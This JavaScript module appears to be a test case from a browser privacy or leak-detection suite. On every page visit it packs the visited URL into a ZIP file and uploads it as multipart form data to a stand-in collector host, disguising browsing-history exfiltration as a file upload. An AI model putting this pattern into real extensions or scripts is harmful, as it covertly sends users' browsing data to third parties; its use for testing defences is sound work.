import { onVisit, reportHonestly, tryTo } from '../../lib/proving.js';
import { zipOf } from '../../lib/zip.js';

const BOUNDARY = 'feedback-boundary';

/** Uploads the address of each page in a ZIP archive, which is the file of a form. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-zip-multipart');
  const { utf8 } = browser.codec;
  onVisit(browser, ({ url }) => {
    const head = [
      `--${BOUNDARY}`,
      'Content-Disposition: form-data; name="file"; filename="log.zip"',
      'Content-Type: application/zip',
      '\r\n',
    ].join('\r\n');
    const archive = zipOf(browser, 'log.txt', `page ${url}\n`.repeat(3));

    return tryTo(browser, {
      url: 'https://zip-multipart.collector.example/v1',
      headers: { 'Content-Type': `multipart/form-data; boundary=${BOUNDARY}` },
      body: Uint8Array.from([...utf8.encode(head), ...archive, ...utf8.encode(`\r\n--${BOUNDARY}--\r\n`)]),
    });
  });
}
